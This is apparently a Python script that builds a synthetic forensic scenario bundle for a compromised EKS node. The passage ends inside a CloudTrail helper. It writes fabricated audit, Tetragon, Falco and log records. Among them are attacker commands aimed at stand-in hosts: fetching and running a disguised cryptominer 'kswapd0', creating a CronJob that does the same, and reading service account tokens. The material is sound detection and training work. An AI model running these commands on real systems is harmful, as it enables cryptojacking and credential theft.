#!/usr/bin/env python3
"""Writes the kubelet-API scenario bundle (bundle/ next to this script); README.md tells the story, the known answers
and each file's provenance. Deterministic: same bytes on every run (gzip members carry mtime 0 and no name; the
snapshotter database has fixed timestamps). Needs Go and Debian's golang-github-coreos-bbolt-dev for metadata.db.
Run: python3 make_kubelet_scenario.py"""
import base64, calendar, io, json, os, shutil, subprocess, sys, time

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "bundle")
DAY = "2026-11-21"

sys.dont_write_bytecode = True  # no __pycache__ among the test resources
sys.path.insert(0, os.path.dirname(HERE))
from bundle_files import AuditLog, BundleFiles, CloudTrailLog, service_account_volumes  # noqa: E402 (beside the scenarios)
_files = BundleFiles(DAY, OUT)
epoch, ts, tus, tsec, write, jl = _files.epoch, _files.ts, _files.tus, _files.tsec, _files.write, _files.jl

# ------------------------------------------------------------------------------------------------------ entities
ACCT, REGION, CLUSTER, ZONE, AZ_ID = "271828182845", "us-west-2", "data-eks", "us-west-2a", "usw2-az1"
VPC, SUBNET = "vpc-0a7b2c9d4e1f30562", "subnet-0e4d3c2b1a0f98765"
# a self-managed node group whose kubelet answers anonymous requests (authentication.anonymous.enabled: true,
# authorization.mode: AlwaysAllow) and whose security group lets 10250 in from anywhere
NODE = "ip-10-72-14-203.us-west-2.compute.internal"
NODE_IP, INSTANCE, ENI = "10.72.14.203", "i-0d4c3b2a1f0e9d8c7", "eni-0f1e2d3c4b5a69788"
NODE_UID = "b2a7c4e1-5d3f-4a8b-9c6e-1f0a2b3c4d5e"
NODE_ROLE_NAME = "data-eks-workers-NodeInstanceRole-2HD7WQ91LKXZ"
NODE_ROLE = "arn:aws:iam::%s:role/%s" % (ACCT, NODE_ROLE_NAME)
ATTACKER = "198.51.100.23"
POOL_IP, POOL = "203.0.113.97", "pool.hashvault.example"
NS = "analytics"
# the exploited workload: an ETL worker with an IRSA role on the data lake
ETL, ETL_UID, ETL_IP = "etl-worker-6d9f8b7c5-p2m4x", "4f2e1d0c-9b8a-4765-a4b3-c2d1e0f9a8b7", "10.72.14.118"
ETL_SANDBOX, ETL_CTR = "5a7c" + "21" * 30, "e7c0" + "3f" * 30
ETL_REPO = "%s.dkr.ecr.%s.amazonaws.com/analytics/etl-worker" % (ACCT, REGION)
ETL_DIGEST = "sha256:" + "b3e9" * 16
ETL_SA = "etl-worker"
ETL_SA_USER = "system:serviceaccount:%s:%s" % (NS, ETL_SA)
SA_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:" + NS, "system:authenticated"]
ETL_ROLE = "arn:aws:iam::%s:role/etl-worker-irsa" % ACCT
TOKEN_JTI = "JTI=3c8e1f4a-7b2d-4e9c-a5f1-6d0b2c4e8a13"
OIDC = "arn:aws:iam::%s:oidc-provider/oidc.eks.%s.amazonaws.com/id/5F1C3A7E9B2D4F6A8C0E1B3D5F7A9C2E" % (ACCT, REGION)
POD_SESSION_NAME, POD_KEY = "botocore-session-1795251040", "ASIAUETLPOD000000001"
POD_SESSION = "arn:aws:sts::%s:assumed-role/etl-worker-irsa/%s" % (ACCT, POD_SESSION_NAME)
STOLEN_SESSION_NAME, STOLEN_KEY = "etl", "ASIAUETLSTOLEN000001"
STOLEN_SESSION = "arn:aws:sts::%s:assumed-role/etl-worker-irsa/%s" % (ACCT, STOLEN_SESSION_NAME)
CRON = "etl-compaction"
# the bystander on the same node, same namespace: a reporting API (its own service account, no IRSA)
API, API_UID, API_IP = "report-api-5c7b9d8f6-t4r8w", "8e7d6c5b-4a39-4281-9f0e-d1c2b3a49586", "10.72.14.77"
API_SANDBOX, API_CTR = "5a7d" + "44" * 30, "a9d1" + "62" * 30
API_REPO = "%s.dkr.ecr.%s.amazonaws.com/analytics/report-api" % (ACCT, REGION)
API_DIGEST = "sha256:" + "4c7d" * 16
# the other cluster: disaster recovery, another account, a VPC with the same 10.72.0.0/16; its node has the same
# address (and so the same private DNS name), its pod the exploited pod's address
DR_ACCT, DR_CLUSTER, DR_VPC = "161803398874", "data-eks-dr", "vpc-0d1e2f3a4b5c6d7e8"
DR_INSTANCE, DR_ENI, DR_NODE_UID = "i-0e5f6a7b8c9d0e1f2", "eni-0c9b8a7d6e5f40312", "c3d4e5f6-a7b8-4c9d-8e0f-a1b2c3d4e5f6"
DR_POD, DR_POD_UID, DR_CTR = "ingest-7f8e9d0c1-k5l6m", "1a2b3c4d-5e6f-4071-8293-a4b5c6d7e8f9", "d2c0" + "9a" * 30
DR_REPO = "%s.dkr.ecr.%s.amazonaws.com/analytics/ingest" % (DR_ACCT, REGION)
DR_DIGEST = "sha256:" + "7e1f" * 16

# ----------------------------------------------------------------------------------------------- Kubernetes audit
audit = AuditLog(_files, "b1e5d0c2-%04x-4%03x-9000-%012d", 3870, "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46").event

def kubelet_user(node):
    return ("system:node:" + node, ["system:nodes", "system:authenticated"])
KUBELET_UA = "kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46"
KCM_UA = "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:"
CTL_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]

def token_extra():
    """A bound service account token's claims as the apiserver adds them to the request's user (1.30+): the pod it is
    bound to, that pod's node, and the token's id."""
    return {"authentication.kubernetes.io/credential-id": [TOKEN_JTI],
            "authentication.kubernetes.io/node-name": [NODE], "authentication.kubernetes.io/node-uid": [NODE_UID],
            "authentication.kubernetes.io/pod-name": [ETL], "authentication.kubernetes.io/pod-uid": [ETL_UID]}

def pod_ref(name, ns=NS, sub=None):
    r = {"resource": "pods", "namespace": ns, "name": name, "apiVersion": "v1"}
    if sub: r["subresource"] = sub
    return r

def status_patch(uid, ip, host_ip, started, statuses):
    """The kubelet's strategic-merge status patch (audit level Request for system:nodes: the request body only)."""
    return {"metadata": {"uid": uid},
            "status": {"$setElementOrder/conditions": [{"type": "PodReadyToStartContainers"}, {"type": "Initialized"},
                                                       {"type": "Ready"}, {"type": "ContainersReady"}, {"type": "PodScheduled"}],
                       "conditions": [{"lastTransitionTime": started, "status": "True", "type": "Ready"},
                                      {"lastTransitionTime": started, "status": "True", "type": "ContainersReady"}],
                       "containerStatuses": statuses, "hostIP": host_ip, "hostIPs": [{"ip": host_ip}],
                       "phase": "Running", "podIP": ip, "podIPs": [{"ip": ip}], "startTime": started}}

def cstatus(name, cid, image, image_id, started):
    return {"containerID": "containerd://" + cid, "image": image, "imageID": image_id, "lastState": {}, "name": name,
            "ready": True, "restartCount": 0, "started": True, "state": {"running": {"startedAt": started}}}

def node_create(t, us, node, ip, instance, uid):
    return audit(t, us, "create", "/api/v1/nodes", *kubelet_user(node), ip, {"resource": "nodes", "name": node, "apiVersion": "v1"},
                 code=201, ua=KUBELET_UA,
                 request={"kind": "Node", "apiVersion": "v1", "metadata": {"name": node, "labels": {
                     "kubernetes.io/hostname": node, "topology.kubernetes.io/zone": ZONE,
                     "node.kubernetes.io/instance-type": "r6i.2xlarge", "alpha.eksctl.io/nodegroup-name": "data-workers"}},
                          "spec": {"providerID": "aws:///%s/%s" % (ZONE, instance)},
                          "status": {"addresses": [{"type": "InternalIP", "address": ip}, {"type": "Hostname", "address": node},
                                                   {"type": "InternalDNS", "address": node}]}},
                 response={"kind": "Node", "apiVersion": "v1", "metadata": {"name": node, "uid": uid,
                           "creationTimestamp": tsec(t)}, "spec": {"providerID": "aws:///%s/%s" % (ZONE, instance)}})

def deployment_pod(name, uid, rs, app, sa, image, created, irsa):
    """A Deployment's pod as the ReplicaSet controller creates it; an IRSA pod as EKS's pod identity webhook mutated
    it (AWS_ROLE_ARN, AWS_WEB_IDENTITY_TOKEN_FILE, the projected aws-iam-token volume)."""
    c = {"name": "worker" if app == "etl-worker" else "api", "image": image,
         "ports": [{"containerPort": 8081 if app == "etl-worker" else 8000, "protocol": "TCP"}]}
    vols = service_account_volumes(c, uid, REGION, ETL_ROLE if irsa else None)
    return {"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": name, "generateName": rs + "-", "namespace": NS, "uid": uid, "creationTimestamp": tsec(created),
                         "labels": {"app": app, "pod-template-hash": rs.rsplit("-", 1)[1]},
                         "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs,
                                              "uid": "0f1e2d3c-" + uid[9:], "controller": True, "blockOwnerDeletion": True}]},
            "spec": {"serviceAccountName": sa, "containers": [c], "volumes": vols},
            "status": {"phase": "Pending", "qosClass": "Burstable"}}

def cronjob(with_status):
    c = {"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": CRON, "namespace": NS},
         "spec": {"schedule": "17 3 * * *", "successfulJobsHistoryLimit": 0, "failedJobsHistoryLimit": 0,
                  "jobTemplate": {"spec": {"template": {"spec": {
                      "restartPolicy": "OnFailure", "serviceAccountName": ETL_SA,
                      "containers": [{"name": "compaction", "image": ETL_REPO + "@" + ETL_DIGEST,
                                      "command": ["sh", "-c", "curl -s -o /tmp/.cache/kswapd0 http://%s:8080/kswapd0 && chmod +x /tmp/.cache/kswapd0 && exec /tmp/.cache/kswapd0 -o %s:3333 --tls" % (ATTACKER, POOL)]}]}}}}}}
    if with_status:
        c["metadata"].update({"uid": "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d", "creationTimestamp": tsec("10:10:15"),
                              "resourceVersion": "48812207", "generation": 1})
        c["status"] = {}
    return c

def prod_audit():
    ev = [node_create("07:58:11", 402113, NODE, NODE_IP, INSTANCE, NODE_UID)]
    rs_ua = KCM_UA + "replicaset-controller"
    etl_rs, api_rs = "etl-worker-6d9f8b7c5", "report-api-5c7b9d8f6"
    for name, uid, rs, app, sa, image, t, irsa in (
            (ETL, ETL_UID, etl_rs, "etl-worker", ETL_SA, ETL_REPO + ":3.8.1", "08:10:00", True),
            (API, API_UID, api_rs, "report-api", "report-api", API_REPO + ":1.14.0", "08:12:30", False)):
        pod = deployment_pod(name, uid, rs, app, sa, image, t, irsa)
        ev.append(audit(t, 120331, "create", "/api/v1/namespaces/%s/pods" % NS, "system:serviceaccount:kube-system:replicaset-controller",
                        CTL_GROUPS, "10.72.0.45", pod_ref("", NS) | {"name": name}, code=201, ua=rs_ua,
                        request={k: v for k, v in pod.items() if k != "status"}, response=pod))
        ev.append(audit(t, 402991, "create", "/api/v1/namespaces/%s/pods/%s/binding" % (NS, name), "system:kube-scheduler",
                        ["system:authenticated"], "10.72.0.45", pod_ref(name, NS, "binding"), code=201,
                        ua="kube-scheduler/v1.31.2 (linux/amd64) kubernetes/5864a46/scheduler",
                        request={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": name, "namespace": NS, "uid": uid},
                                 "target": {"kind": "Node", "name": NODE}}))
    ev.append(audit("08:10:09", 211804, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, ETL), *kubelet_user(NODE), NODE_IP,
                    pod_ref(ETL, NS, "status"), level="Request", ua=KUBELET_UA,
                    request=status_patch(ETL_UID, ETL_IP, NODE_IP, tsec("08:10:01"), [
                        cstatus("worker", ETL_CTR, ETL_REPO + ":3.8.1", ETL_REPO + "@" + ETL_DIGEST, tsec("08:10:08"))])))
    ev.append(audit("08:12:37", 88120, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, API), *kubelet_user(NODE), NODE_IP,
                    pod_ref(API, NS, "status"), level="Request", ua=KUBELET_UA,
                    request=status_patch(API_UID, API_IP, NODE_IP, tsec("08:12:31"), [
                        cstatus("api", API_CTR, API_REPO + ":1.14.0", API_REPO + "@" + API_DIGEST, tsec("08:12:36"))])))
    # 10:09 the etl-worker pod's service account token, read through the kubelet, used from the attacker's address
    # (no pods/exec anywhere: the commands went to the kubelet, not through the apiserver)
    sa = lambda t, us, verb, uri, ref, code=200, level="Metadata", **kw: audit(
        t, us, verb, uri, ETL_SA_USER, SA_GROUPS, ATTACKER, ref, code=code, level=level,
        ua="kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46", extra=token_extra(), **kw)
    ev.append(sa("10:09:30", 11822, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
                 {"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}, code=201))
    ev.append(sa("10:09:41", 507731, "list", "/api/v1/namespaces/%s/secrets?limit=500" % NS,
                 {"resource": "secrets", "namespace": NS, "apiVersion": "v1"}))
    ev.append(sa("10:09:48", 90215, "get", "/api/v1/namespaces/%s/secrets/datalake-s3-creds" % NS,
                 {"resource": "secrets", "namespace": NS, "name": "datalake-s3-creds", "apiVersion": "v1"}))
    ev.append(sa("10:10:15", 330087, "create", "/apis/batch/v1/namespaces/%s/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict" % NS,
                 {"resource": "cronjobs", "namespace": NS, "name": CRON, "apiGroup": "batch", "apiVersion": "v1"}, code=201,
                 level="RequestResponse", request=cronjob(False), response=cronjob(True),
                 annotations={"authorization.k8s.io/decision": "allow",
                              "authorization.k8s.io/reason": "RBAC: allowed by RoleBinding \"etl-worker-jobs/analytics\" of Role \"etl-jobs\" to ServiceAccount \"etl-worker/analytics\""}))
    ev.sort(key=lambda e: e["requestReceivedTimestamp"])
    return ev

def filter_log_events(events, stream):
    """`aws logs filter-log-events --log-group-name /aws/eks/<cluster>/cluster --log-stream-name-prefix
    kube-apiserver-audit` as the AWS CLI prints it (JSON, 4-space indent): events with logStreamName, timestamp and
    ingestionTime in epoch milliseconds, message, eventId."""
    out = []
    for i, e in enumerate(events):
        t = e["stageTimestamp"]
        ms = int(calendar.timegm(time.strptime(t[:19], "%Y-%m-%dT%H:%M:%S")) * 1000 + int(t[20:23]))
        out.append({"logStreamName": stream, "timestamp": ms, "message": json.dumps(e, separators=(",", ":")),
                    "ingestionTime": ms + 1412 + i, "eventId": "%056d" % (38112290411000000 + ms * 1000 + i)})
    return {"events": out, "searchedLogStreams": []}

def dr_audit():
    dr_node = NODE  # same address in the same region: the same private DNS name
    ev = [node_create("07:41:02", 118003, dr_node, NODE_IP, DR_INSTANCE, DR_NODE_UID)]
    ev.append(audit("07:45:20", 400100, "patch", "/api/v1/namespaces/%s/pods/%s/status" % (NS, DR_POD), *kubelet_user(dr_node), NODE_IP,
                    pod_ref(DR_POD, NS, "status"), level="Request", ua=KUBELET_UA,
                    request=status_patch(DR_POD_UID, ETL_IP, NODE_IP, tsec("07:45:12"), [
                        cstatus("ingest", DR_CTR, DR_REPO + ":2.2.0", DR_REPO + "@" + DR_DIGEST, tsec("07:45:19"))])))
    return ev

# ---------------------------------------------------------------------------------------------- kubectl get events
def events():
    """`kubectl get events -A -o json` at 10:46 (the apiserver keeps events for an hour: the pods' start is gone). The
    ETL worker's readiness probe times out while the miner takes its CPU."""
    def ev(n, ns, kind, name, uid, reason, msg, first, last, count, typ="Normal", field=None, component="kubelet", api="v1"):
        io_ = {"apiVersion": api, "kind": kind, "name": name, "namespace": ns, "uid": uid, "resourceVersion": str(48800000 + n)}
        if field: io_["fieldPath"] = field
        return {"apiVersion": "v1", "count": count, "eventTime": None, "firstTimestamp": tsec(first), "involvedObject": io_,
                "kind": "Event", "lastTimestamp": tsec(last), "message": msg,
                "metadata": {"creationTimestamp": tsec(first), "name": "%s.%016x" % (name, 0x187a2c4e00000000 + n * 104729),
                             "namespace": ns, "resourceVersion": str(48810000 + n), "uid": "e1e1%04x-2222-4333-8444-%012d" % (n, n)},
                "reason": reason, "reportingComponent": component, "reportingInstance": NODE if component == "kubelet" else "",
                "source": {"component": component, "host": NODE} if component == "kubelet" else {"component": component},
                "type": typ}
    items = [
        ev(1, NS, "Pod", ETL, ETL_UID, "Unhealthy",
           "Readiness probe failed: Get \"http://%s:8081/ready\": context deadline exceeded (Client.Timeout exceeded while awaiting headers)" % ETL_IP,
           "10:06:31", "10:44:01", 23, typ="Warning", field="spec.containers{worker}"),
        ev(2, NS, "Pod", API, API_UID, "Unhealthy", "Liveness probe failed: ", "09:58:02", "09:58:02", 1, typ="Warning",
           field="spec.containers{api}"),
    ]
    return {"apiVersion": "v1", "items": items, "kind": "List", "metadata": {"resourceVersion": ""}}

# ----------------------------------------------------------------------------------------------- CRI container logs
def cri(lines):
    return "".join("%s %s %s %s\n" % l for l in lines)

def etl_lines(start, end, step, slow_after=None):
    out = []
    s = epoch(start)
    i = 0
    while s < epoch(end):
        hms = time.strftime("%H:%M:%S", time.gmtime(s))
        took = 41.2 + (i % 5) * 1.7
        level = "INFO"
        if slow_after and s >= epoch(slow_after):
            took, level = 188.4 + (i % 3) * 11.3, "WARN"
        rec = {"ts": ts(hms, 1000 * i)[:-7] + "Z", "level": level, "logger": "etl.batch",
               "msg": "batch committed" if level == "INFO" else "batch over deadline", "batch": "20261121-%s" % hms.replace(":", "")[:4],
               "rows": 120331 + 17 * i, "took_s": round(took, 1)}
        out.append((ts(hms, 1000 * i + 88), "stdout", "F", json.dumps(rec, separators=(",", ":"))))
        s += step
        i += 1
    return out

def cri_etl():
    """The ETL worker's log, rotated by the kubelet at 09:45 (containerLogMaxSize): 0.log.20261121-094500.gz, 0.log.
    The attacker's commands went through the kubelet's /run and /exec: their output went back to the caller, never
    into this log; only the worker's slowdown shows."""
    older = [(ts("08:10:08", 911002000), "stdout", "F", "etl-worker 3.8.1 starting (pid 1, 8 threads)"),
             (ts("08:10:09", 120000000), "stdout", "F", "using web identity credentials from AWS_WEB_IDENTITY_TOKEN_FILE")]
    older += etl_lines("08:15:00", "09:45:00", 300)
    current = etl_lines("09:45:00", "10:45:00", 300, slow_after="10:06:00")
    return cri(older), cri(current)

def cri_api():
    out = []
    for i in range(24):
        s = epoch("09:50:00") + i * 150
        hms = time.strftime("%H:%M:%S", time.gmtime(s))
        out.append((ts(hms, 5000 * i), "stdout", "F", 'INFO:     10.72.1.%d:%d - "GET /reports/daily?team=%d HTTP/1.1" 200 OK'
                    % (20 + i % 3, 41000 + i, i % 7)))
    return cri(out)

# ------------------------------------------------------------------------------------------------------- Tetragon
def tproc(exec_id, pid, binary, args, start, pod=None, parent=None, uid=0, cwd="/", probe=False):
    p = {"exec_id": exec_id, "pid": pid, "uid": uid, "cwd": cwd, "binary": binary, "arguments": args,
         "flags": "execve clone", "start_time": start, "auid": 4294967295}
    if pod:
        name, ctr, cname, repo, digest, tag, workload, cstart, labels = pod
        p["pod"] = {"namespace": NS, "name": name,
                    "container": {"id": "containerd://" + ctr, "name": cname,
                                  "image": {"id": repo + "@" + digest, "name": repo + ":" + tag},
                                  "start_time": cstart, "pid": 1, "maybe_exec_probe": probe},
                    "pod_labels": labels, "workload": workload, "workload_kind": "Deployment"}
        p["docker"] = ctr[:31]
    if parent is not None:
        p["parent_exec_id"] = parent
    p["tid"] = pid
    p["in_init_tree"] = False
    return p

ETL_POD = (ETL, ETL_CTR, "worker", ETL_REPO, ETL_DIGEST, "3.8.1", "etl-worker", tsec("08:10:08"),
           {"app": "etl-worker", "pod-template-hash": "6d9f8b7c5"})
API_POD = (API, API_CTR, "api", API_REPO, API_DIGEST, "1.14.0", "report-api", tsec("08:12:36"),
           {"app": "report-api", "pod-template-hash": "5c7b9d8f6"})

def tev(kind, body, t):
    return {kind: body, "node_name": NODE, "time": t, "cluster_name": CLUSTER}

def kprobe(proc, parent, fn, args, t, policy, ret=None):
    b = {"process": proc, "function_name": fn, "args": args, "action": "KPROBE_ACTION_POST", "policy_name": policy}
    if parent is not None: b["parent"] = parent
    if ret is not None: b["return"] = ret
    return tev("process_kprobe", b, t)

def connect(saddr, daddr, sport, dport):
    return [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "mark": 0, "priority": 0,
                          "saddr": saddr, "daddr": daddr, "sport": sport, "dport": dport, "cookie": "18446623491029417984",
                          "state": "TCP_SYN_SENT"}}]

def tetragon():
    """Tetragon's JSON export. A command sent to the kubelet's /run or /exec reaches the container through containerd
    and `runc exec`: the process's parent is runc on the host (no pod), not a process of the container."""
    eid = lambda pid, t: base64.b64encode(("%s:%d:%d" % (NODE.split(".")[0], int(epoch(t) * 1e9) % 10**15, pid)).encode()).decode()
    runc = lambda pid, t, ctr, execn: tproc(eid(pid, t), pid, "/usr/sbin/runc",
        "--root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/%s/log.json --log-format json "
        "--systemd-cgroup exec --process /tmp/runc-process%d --detach --pid-file "
        "/run/containerd/io.containerd.runtime.v2.task/k8s.io/%s/%s.pid %s" % (ctr, 2887310429 + pid, ctr, execn, ctr),
        ts(t, 1000000), None, eid(3811, "08:10:08"))
    etl_main = tproc(eid(4410, "08:10:08"), 4410, "/usr/local/bin/python3.12", "-m etl.worker --threads 8",
                     ts("08:10:08", 700000000), ETL_POD, None, uid=10001, cwd="/app")
    out = [tev("process_exec", {"process": etl_main}, ts("08:10:08", 700400000))]
    # the kubelet /run calls: one command each (the kubelet splits cmd on spaces)
    for pid, t, args, binary in ((48211, "10:03:41", "", "/usr/bin/id"),
                                 (48230, "10:03:52", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/bin/cat"),
                                 (48247, "10:04:05", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token", "/bin/cat")):
        r = runc(pid - 3, t, ETL_CTR, "%064x" % (0x5eed0000 + pid))
        p = tproc(eid(pid, t), pid, binary, args, ts(t, 9000000), ETL_POD, r["exec_id"], cwd="/app")
        out.append(tev("process_exec", {"process": p, "parent": r}, ts(t, 9300000)))
        if binary == "/bin/cat":
            real = args.replace("/token", "/..2026_11_21_08_10_01.1129384756/token")
            out.append(kprobe(p, r, "security_file_permission", [{"file_arg": {"path": real, "permission": "-rw-r-----"}}, {"int_arg": 4}],
                              ts(t, 9800000), "sa-token-read", ret={"int_arg": 0}))
    # the /exec call (several command= parameters: a shell): fetch and start the miner from the writable layer
    r = runc(48299, "10:05:20", ETL_CTR, "%064x" % 0x5eed0bc2)
    sh = tproc(eid(48302, "10:05:20"), 48302, "/bin/sh",
               "-c \"curl -s -o /tmp/.cache/kswapd0 http://%s:8080/kswapd0; chmod +x /tmp/.cache/kswapd0; /tmp/.cache/kswapd0 -o %s:3333 --tls -B\"" % (ATTACKER, POOL),
               ts("10:05:20", 11000000), ETL_POD, r["exec_id"], cwd="/app")
    curl = tproc(eid(48305, "10:05:20"), 48305, "/usr/bin/curl", "-s -o /tmp/.cache/kswapd0 http://%s:8080/kswapd0" % ATTACKER,
                 ts("10:05:20", 14000000), ETL_POD, sh["exec_id"], cwd="/app")
    miner = tproc(eid(48319, "10:05:23"), 48319, "/tmp/.cache/kswapd0", "-o %s:3333 --tls -B" % POOL,
                  ts("10:05:23", 402000000), ETL_POD, sh["exec_id"], cwd="/app")
    out += [
        tev("process_exec", {"process": sh, "parent": r}, ts("10:05:20", 11300000)),
        tev("process_exec", {"process": curl, "parent": sh}, ts("10:05:20", 14200000)),
        kprobe(curl, sh, "tcp_connect", connect(ETL_IP, ATTACKER, 48812, 8080), ts("10:05:20", 19000000), "connect-egress"),
        tev("process_exec", {"process": miner, "parent": sh}, ts("10:05:23", 402300000)),
        kprobe(miner, sh, "tcp_connect", connect(ETL_IP, POOL_IP, 39114, 3333), ts("10:05:24", 110000000), "connect-egress"),
    ]
    # the bystander: its server, its exec liveness probe (the kubelet's exec: runc too), its database connection
    api_main = tproc(eid(5102, "08:12:36"), 5102, "/usr/local/bin/uvicorn", "report_api.main:app --host 0.0.0.0 --port 8000",
                     ts("08:12:36", 300000000), API_POD, None, uid=10001, cwd="/srv")
    out.append(tev("process_exec", {"process": api_main}, ts("08:12:36", 300400000)))
    for pid, t in ((47901, "10:02:36"), (48402, "10:07:36")):
        r = runc(pid - 2, t, API_CTR, "%064x" % (0x9b0be000 + pid))
        p = tproc(eid(pid, t), pid, "/bin/cat", "/tmp/healthy", ts(t, 5000000), API_POD, r["exec_id"], cwd="/srv", probe=True)
        out.append(tev("process_exec", {"process": p, "parent": r}, ts(t, 5200000)))
    out.append(kprobe(api_main, None, "tcp_connect", connect(API_IP, "10.72.30.15", 51744, 5432), ts("10:04:12", 0), "connect-egress"))
    out.sort(key=lambda e: e["time"])
    return jl(out)

# ------------------------------------------------------------------------------------ Falco (journald, JSON export)
def falco_journal():
    """Falco 0.39 as a systemd service (falco-modern-bpf.service, json_output: true, stdout_output) on the node:
    `journalctl -u falco-modern-bpf -o json`, each alert the MESSAGE of an entry of _TRANSPORT stdout."""
    entries = []
    def entry(n, hms, frac, message, prio=6):
        rt = int(epoch(hms) * 1e6) + frac // 1000
        entries.append({"__CURSOR": "s=7d1c9e0a4b3f4e2d8c6a5b4e3d2c1b0a;i=%x;b=0f9e8d7c6b5a49382716a5b4c3d2e1f0;m=%x;t=%x;x=%016x"
                                      % (0x41a20 + n, 0x2b3c4d5e + n * 1000, rt, 0x5a4b3c2d1e0f0000 + n),
                        "__REALTIME_TIMESTAMP": str(rt), "__MONOTONIC_TIMESTAMP": str(7421000000 + n * 1000),
                        "_BOOT_ID": "0f9e8d7c6b5a49382716a5b4c3d2e1f0", "PRIORITY": str(prio), "SYSLOG_FACILITY": "3",
                        "_UID": "0", "_GID": "0", "_CAP_EFFECTIVE": "1ffffffffff", "_SELINUX_CONTEXT": "unconfined\n",
                        "_MACHINE_ID": "ec2a9f1b3c4d5e6f7a8b9c0d1e2f3a4b", "_HOSTNAME": NODE.split(".")[0],
                        "_TRANSPORT": "stdout", "SYSLOG_IDENTIFIER": "falco", "_COMM": "falco", "_EXE": "/usr/bin/falco",
                        "_CMDLINE": "/usr/bin/falco -o engine.kind=modern_ebpf", "_SYSTEMD_CGROUP": "/system.slice/falco-modern-bpf.service",
                        "_SYSTEMD_UNIT": "falco-modern-bpf.service", "_SYSTEMD_SLICE": "system.slice",
                        "_SYSTEMD_INVOCATION_ID": "3e2d1c0b9a8f47e6b5d4c3b2a1f0e9d8", "_STREAM_ID": "9c8b7a6f5e4d43c2b1a0f9e8d7c6b5a4",
                        "_PID": "2214", "MESSAGE": message})
    entry(1, "07:59:40", 0, "Sat Nov 21 07:59:40 2026: Falco version: 0.39.2 (x86_64)")
    entry(2, "07:59:40", 2000000, "Sat Nov 21 07:59:40 2026: Loading rules from: /etc/falco/falco_rules.yaml")
    def alert(n, hms, frac, rule, prio, text, fields, tags):
        t = ts(hms, frac)
        a = {"hostname": NODE.split(".")[0], "output": "%s: %s %s" % (hms + ".%09d" % frac, prio, text), "output_fields": fields,
             "priority": prio, "rule": rule, "source": "syscall", "tags": tags, "time": t}
        entry(n, hms, frac + 2400000, json.dumps(a, separators=(",", ":")))
    f = {"container.id": ETL_CTR[:12], "container.image.repository": ETL_REPO, "container.image.tag": "3.8.1",
         "container.name": "worker", "evt.time": int(epoch("10:05:23")) * 10**9 + 402551003, "evt.type": "execve",
         "k8s.ns.name": NS, "k8s.pod.name": ETL, "proc.cmdline": "kswapd0 -o %s:3333 --tls -B" % POOL,
         "proc.exepath": "/tmp/.cache/kswapd0", "proc.name": "kswapd0", "proc.pname": "sh", "proc.sname": "sh",
         "proc.aname[2]": "runc", "proc.cwd": "/app/", "proc.tty": 0, "user.loginuid": -1, "user.name": "app", "user.uid": 10001,
         "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER", "container.start_ts": int(epoch("08:10:08")) * 10**9}
    alert(3, "10:05:23", 402551003, "Drop and execute new binary in container", "Critical",
          "Executing binary not part of base image (proc_exe=/tmp/.cache/kswapd0 proc_sname=sh gparent=runc proc_cwd=/app/ "
          "evt_type=execve user=app user_uid=10001 user_loginuid=-1 process=kswapd0 proc_exepath=/tmp/.cache/kswapd0 parent=sh "
          "command=kswapd0 -o %s:3333 --tls -B terminal=0 exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER container_id=%s "
          "container_name=worker container_image_repository=%s container_image_tag=3.8.1 k8s_pod_name=%s k8s_ns_name=%s)"
          % (POOL, ETL_CTR[:12], ETL_REPO, ETL, NS), f,
          ["maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"])
    return jl(entries)

# ------------------------------------------------------------------------------------------------------ CloudTrail
def cloudtrail():
    def session_identity(name, key, created):
        return {"type": "AssumedRole", "principalId": "AROAUETLWORKERIRSA01:" + name,
                "arn": "arn:aws:sts::%s:assumed-role/etl-worker-irsa/%s" % (ACCT, name), "accountId": ACCT, "accessKeyId": key,
                "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAUETLWORKERIRSA01", "arn": ETL_ROLE,
                                                     "accountId": ACCT, "userName": "etl-worker-irsa"},
                                   "webIdFederationData": {"federatedProvider": OIDC, "attributes": {}},
                                   "attributes": {"creationDate": DAY + "T" + created + "Z", "mfaAuthenticated": "false"}}}
    web_identity = {"type": "WebIdentityUser", "principalId": OIDC + ":sts.amazonaws.com:" + ETL_SA_USER,
                    "userName": ETL_SA_USER, "identityProvider": OIDC}
    node_identity = {"type": "AssumedRole", "principalId": "AROAUDATANODEROLE001:" + INSTANCE,
                     "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, NODE_ROLE_NAME, INSTANCE), "accountId": ACCT,
                     "accessKeyId": "ASIAUDATANODE0000001",
                     "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAUDATANODEROLE001", "arn": NODE_ROLE,
                                                          "accountId": ACCT, "userName": NODE_ROLE_NAME},
                                        "attributes": {"creationDate": DAY + "T07:57:40Z", "mfaAuthenticated": "false"},
                                        "ec2RoleDelivery": "2.0"}}
    ct = CloudTrailLog(_files, REGION, "1.10", "8d2f%04d-4c1e-4b7a-9e3d-%012d", "f3a9%04d-6b2c-4d8e-a1f0-%012d")
    def rec(t, identity, source, name, ip, ua, req, resp, category="Management", ro=True, extra=None):
